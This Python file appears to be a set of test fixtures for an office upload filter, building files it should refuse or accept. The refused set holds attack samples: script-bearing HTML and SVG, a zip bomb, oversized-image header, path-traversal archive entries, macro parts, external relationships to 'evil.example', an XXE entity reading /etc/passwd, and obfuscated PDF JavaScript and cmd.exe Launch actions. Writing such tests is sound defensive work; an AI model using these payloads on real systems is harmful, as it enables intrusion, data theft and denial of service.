"""Files that an office must not take, and some that it must (SEC-23)."""

import io
import zipfile
import zlib

from PIL import Image

PICTURE = (64, 48)
GPS = 0x8825
SECRET = b"Canary 51.96 N 7.62 E"


def package(parts, *, comment=b""):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        archive.comment = comment
    return target.getvalue()


DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
XLSX = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
ODT = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<o/>"}


def pdf(inner=b"", *, behind=b""):
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + inner + b">>\nendobj\n"
        b"trailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + behind
    )


def folded_pdf(inner):
    packed = zlib.compress(inner)
    stream = (
        b"3 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /N 1 /First 4 >>\nstream\n"
    )
    return pdf().replace(b"trailer", stream + packed + b"\nendstream\nendobj\ntrailer")


def picture(form="JPEG", size=PICTURE, **options):
    target = io.BytesIO()
    image = Image.new("RGB", size, "teal")
    if form != "GIF":
        exif = Image.Exif()
        exif[0x010F] = SECRET.decode()
        exif.get_ifd(GPS)[2] = (51.0, 57.0, 0.0)
        options["exif"] = exif.tobytes()
    image.save(target, form, **options)
    return target.getvalue()


def bomb():
    return package({**DOCX, "word/media/x.xml": b" " * 60_000_000})


def giant():
    """A picture of a few bytes that says it has 40,000 × 40,000 points."""
    data = bytearray(picture("PNG", (8, 8)))
    data[16:24] = (40_000).to_bytes(4, "big") * 2
    data[29:33] = zlib.crc32(bytes(data[12:29])).to_bytes(4, "big")
    return bytes(data)


HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
JAR = package({"META-INF/MANIFEST.MF": "Main-Class: x", "x.class": "x"})
RELATION = (
    '<Relationships><Relationship Id="r" Type="http://x/{}" '
    'Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)


def _kinds():
    """Give each refused file with the name under which it is handed in."""
    yield from (
        ("html.jpg", HTML),
        ("html.pdf", HTML),
        ("html.txt", HTML),
        ("html.csv", b"\xef\xbb\xbf \n" + HTML),
        ("page.html", b"plain words"),
        ("bild.svg", SVG),
        ("bild.png", b"<?xml version='1.0'?>" + b"<!-- x -->" * 400 + SVG),
        ("text.js", b"alert(1)"),
        ("befehl.bat", b"del *.*"),
        ("brief.pdf.exe", b"MZ\x90\x00\x03"),
        ("brief\u202efdp.exe", b"MZ\x90\x00\x03"),
        ("programm", b"\x7fELF\x02"),
        ("brief.docx", b"PK\x03\x04 broken"),
        ("archiv.zip", package({"x.txt": "x"})),
        ("programm.jar", JAR),
        ("alt.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ("leer.pdf", b""),
        ("null.txt", b"a\x00b"),
        ("bombe.docx", bomb()),
        ("riese.png", giant()),
        ("halb.jpg", picture()[:300]),
        ("falsch.png", b"\x89PNG\r\n\x1a\n" + HTML),
        ("falsch.gif", b"GIF89a/*" + HTML),
        ("brief.docx", package(DOCX, comment=b"<script>alert(1)</script>")),
        ("brief.docx", package({**DOCX, "../../x": "x"})),
        ("brief.docx", package({**DOCX, "C:\\x": "x"})),
        ("brief.docx", package({**DOCX, "run.exe": "x"})),
    )
    for name in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "xl/macrosheets/a.xml",
                 "word/activeX/a.bin", "word/embeddings/oleObject1.bin"):  # fmt: skip
        yield f"makro {name.rpartition('/')[2]}.docm", package({**DOCX, name: "x"})
        yield f"makro {name.rpartition('/')[2]}.xlsx", package({**XLSX, name: "x"})
    yield "makro.odt", package({**ODT, "Basic/Standard/x.xml": "<x/>"})
    yield "makro.odt", package({**ODT, "Scripts/python/x.py": "x"})
    types = (
        '<Types><Override ContentType="application/x.macroEnabled.main+xml"/></Types>'
    )
    yield "makro.docx", package({**DOCX, "[Content_Types].xml": types})
    for kind in ("attachedTemplate", "oleObject", "frame", "image", "subDocument"):
        relation = RELATION.format(kind)
        yield f"{kind}.docx", package({**DOCX, "word/_rels/x.rels": relation})
    entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    for encoding in ("utf-8", "utf-16"):
        part = {"word/document.xml": entity.encode(encoding)}
        yield f"xxe {encoding}.docx", package({**DOCX, **part})
    for inner in (
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        b"/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>",
        b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
        b"/Names << /EmbeddedFiles 4 0 R >>",
        b"/S /ImportData",
        b"/Subtype /RichMedia",
        b"/S /GoToE /F (x)",
    ):
        yield "skript.pdf", pdf(inner)
        yield "gefaltet.pdf", folded_pdf(b"1 0 << " + inner + b">>")
    yield (
        "verschlossen.pdf",
        folded_pdf(b"x").replace(b"/Root", b"/Encrypt 5 0 R /Root"),
    )
    yield "jar.pdf", pdf(behind=JAR)
    yield "html.pdf", pdf(behind=HTML)
    yield "ohne-ende.pdf", pdf().replace(b"%%EOF", JAR)


REFUSED = list(_kinds())
TAKEN = [
    ("brief.pdf", pdf()),
    ("formular.pdf", folded_pdf(b"1 0 << /Type /Font /JSx 1 >>")),
    ("brief.docx", package(DOCX)),
    ("liste.xlsx", package(XLSX)),
    ("brief.odt", package(ODT)),
    ("text.txt", "Grüße, مرحبا".encode()),
    ("liste.csv", "Name;Straße".encode("latin-1")),
    ("foto.jpg", picture(comment=SECRET)),
    ("foto.png", picture("PNG")),
    ("foto.webp", picture("WEBP")),
    ("bild.gif", picture("GIF", comment=SECRET)),
    ("polyglott.gif", picture("GIF") + JAR),
    ("polyglott.jpg", picture() + HTML),
]
